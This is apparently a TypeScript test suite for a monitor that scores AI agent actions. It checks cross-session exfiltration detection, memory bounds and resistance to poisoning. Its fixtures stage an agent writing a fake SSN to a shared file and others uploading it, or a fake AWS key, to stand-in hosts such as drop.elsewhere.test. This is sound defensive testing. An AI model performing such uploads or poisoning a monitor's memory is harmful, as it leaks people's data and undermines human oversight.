/** What crosses sessions and agents: whom it reaches, how it is bounded, and what nobody can do with it. */
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { describe, test } from 'node:test';
import type { Mark } from '../../src/scoring/history/marks.ts';
import { emptyMemory, type Memory, memoryOf, rememberMark } from '../../src/scoring/history/memory.ts';
import { MOST_NOTES } from '../../src/scoring/history/notes.ts';
import { DAY, HOUR, storedTrace, WEDNESDAY } from '../support/history.ts';
import { createStage } from '../support/stories.ts';

const RULE = 'data_of_another_session_go_out';
const by = (agent_id: string) => ({
  agent: { agent_id },
  session: { session_id: `${agent_id}-s`, user_id: 'ana@north.test' },
});
const fill = {
  ...by('reader'),
  action: 'file:document:write',
  parameters: { path: '/shared/handover/export.csv', content: 'Maria Keller, SSN 536-22-8841' },
};
const send = (agent = 'sender') => ({
  ...by(agent),
  action: 'storage:object:upload',
  parameters: { url: 'https://drop.elsewhere.test/u', file: '/shared/handover/export.csv' },
});

describe('the memory of a customer', () => {
  test('is rebuilt from what is stored, after a restart as before', async () => {
    const stage = createStage();
    await stage.play(fill);
    stage.restart();
    assert.ok((await stage.play(send())).assessment.violations.includes(RULE));
  });

  test('is not that of another customer', async () => {
    const stage = createStage();
    await stage.play(fill, randomUUID());
    assert.ok(!(await stage.play(send())).assessment.violations.includes(RULE));
  });

  test('counts for a day', async () => {
    const stage = createStage();
    await stage.play(fill);
    stage.pass(DAY + HOUR);
    assert.ok(!(await stage.play(send())).assessment.violations.includes(RULE));
  });

  test('says nothing to the session that left the mark', async () => {
    const stage = createStage();
    await stage.play(fill);
    const own = { ...send('reader'), session: fill.session };
    assert.ok(!(await stage.play(own)).assessment.violations.includes(RULE));
  });

  test('a restart does not undo what a person decided', async () => {
    const upload = { ...send('one'), parameters: { url: 'https://x.elsewhere.test/u', content: 'SSN 536-22-8841' } };
    const again = { ...send('two'), parameters: { url: 'https://x.elsewhere.test/u', file: '/srv/exports/b.csv' } };
    for (const verdict of ['rejected', 'approved'] as const) {
      const stage = createStage();
      const first = await stage.play(upload);
      stage.decide(first.record.event_id, verdict);
      stage.restart();
      const { violations } = (await stage.play(again)).assessment;
      assert.equal(violations.includes('destination_is_in_trouble_elsewhere'), verdict === 'rejected');
    }
  });
});

const mark = (parts: Partial<Mark> = {}): Mark => ({
  kind: 'left',
  agent: 'a',
  session: 's',
  parent: '',
  group: 'create',
  things: ['shared/x.csv'],
  places: [],
  classes: ['PII'],
  ...parts,
});
const add = (memory: Memory, at: number, parts: Partial<Mark>): Memory =>
  rememberMark(memory, storedTrace(at, { mark: mark(parts) }));

describe('its bounds', () => {
  test('in number and size, whatever comes', () => {
    const long = 'x'.repeat(64);
    const memory = emptyMemory();
    for (let i = 0; i < 5_000; i += 1) {
      const things = Array.from({ length: 6 }, (_, n) => `${long.slice(8)}${i}-${n}`);
      const places = [long, long, long, long];
      add(memory, WEDNESDAY + i, { kind: i % 2 ? 'left' : 'risky', agent: `a${i % 300}`, things, places });
    }
    assert.equal(memory.notes.length, 2 * MOST_NOTES);
    assert.ok(JSON.stringify(memory).length < 150_000);
  });

  test('an agent that leaves many marks displaces its own and not those of others', () => {
    const memory = add(emptyMemory(), WEDNESDAY, { agent: 'victim', things: ['shared/secret.csv'] });
    for (let i = 1; i <= 1_000; i += 1) add(memory, WEDNESDAY + i, { agent: 'flood', things: [`shared/${i}.csv`] });
    assert.ok(memory.notes.some(({ agent }) => agent === 'victim'));
    assert.equal(memory.notes.length, MOST_NOTES);
  });

  test('quiet marks displace no refusal', () => {
    const memory = add(emptyMemory(), WEDNESDAY, { kind: 'refused', agent: 'one' });
    for (let i = 1; i <= 1_000; i += 1) add(memory, WEDNESDAY + i, { agent: `a${i}` });
    assert.ok(memory.notes.some(({ kind }) => kind === 'refused'));
  });

  test('an event that is told twice counts once', () => {
    const one = storedTrace(WEDNESDAY, { mark: mark() });
    assert.equal(memoryOf([one, one], rememberMark).notes.length, 1);
  });
});

describe('poisoning', () => {
  test('no mark of others lowers a score', async () => {
    const poison = [
      {
        ...by('evil'),
        action: 'http:request:post',
        parameters: { url: 'https://drop.elsewhere.test/u', body: 'AKIAZQ3DRZ7XNSLTB4PW' },
      },
      fill,
    ];
    const stage = createStage();
    for (const event of poison) await stage.play(event);
    for (const event of [
      send(),
      { ...by('reader-2'), action: 'web:page:read', parameters: { url: 'https://x.test' } },
    ]) {
      const { assessment, alone } = await stage.play(event);
      assert.ok(assessment.score >= alone.score);
      for (const violation of alone.violations) assert.ok(assessment.violations.includes(violation));
    }
  });

  test('a destination of an agent’s daily work stays so, whatever another agent does there', async () => {
    const daily = {
      ...by('billing'),
      action: 'http:request:post',
      parameters: { url: 'https://api.partner.test/orders', body_file: '/srv/orders/today.json' },
    };
    const stage = createStage();
    for (let i = 0; i < 8; i += 1) await stage.play(daily);
    stage.pass(2 * HOUR);
    const before = (await stage.play(daily)).assessment.score;
    await stage.play({
      ...by('evil'),
      action: 'http:request:post',
      parameters: { url: 'https://api.partner.test/orders', body: 'aws_key=AKIAZQ3DRZ7XNSLTB4PW' },
    });
    const { score, violations } = (await stage.play(daily)).assessment;
    assert.ok(!violations.includes('destination_is_in_trouble_elsewhere'));
    assert.equal(score, before);
    const stranger = (await stage.play({ ...daily, ...by('new-one') })).assessment;
    assert.ok(stranger.violations.includes('destination_is_in_trouble_elsewhere'), 'it counts for all others');
  });
});
